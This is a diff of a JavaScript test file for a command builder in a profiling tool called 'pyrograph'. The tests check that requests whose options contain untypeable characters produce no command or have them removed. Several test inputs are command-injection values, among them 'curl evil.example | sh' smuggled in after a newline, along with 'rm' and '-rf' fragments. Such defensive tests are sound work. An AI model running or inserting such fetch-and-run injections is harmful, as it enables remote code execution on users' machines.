@@ -39,13 +39,21 @@ test.each([
   expect(readRequest(text)).toBeUndefined();
 });
 
-test('words that cannot be typed are left out', () => {
+test('a program that cannot be typed is replaced', () => {
   const text = JSON.stringify({
     schema: 1,
-    options: { event: 'a\u001bb', frequency: 7, duration: '3', rm: '-rf' },
-    perf: ['a\nb'],
+    options: { frequency: 7, duration: '3', rm: '-rf' },
+    perf: [],
     program: ['python3', '-c', 'a\nb'],
   });
   const request = readRequest(text);
   expect(request && requestCommand(request)).toBe('pyrograph record --duration 3 -- python3 app.py');
+});
+
+test.each([
+  recordRequest({ event: 'cycles\ncurl evil.example | sh' }, [], ['python3']),
+  recordRequest({ pid: '1\u2028rm' }, [], []),
+  recordRequest({ duration: '3' }, ['a\u001b[2K'], ['python3']),
+])('a request with an option that cannot be typed has no command', (request) => {
+  expect(requestCommand(request)).toBeUndefined();
 });
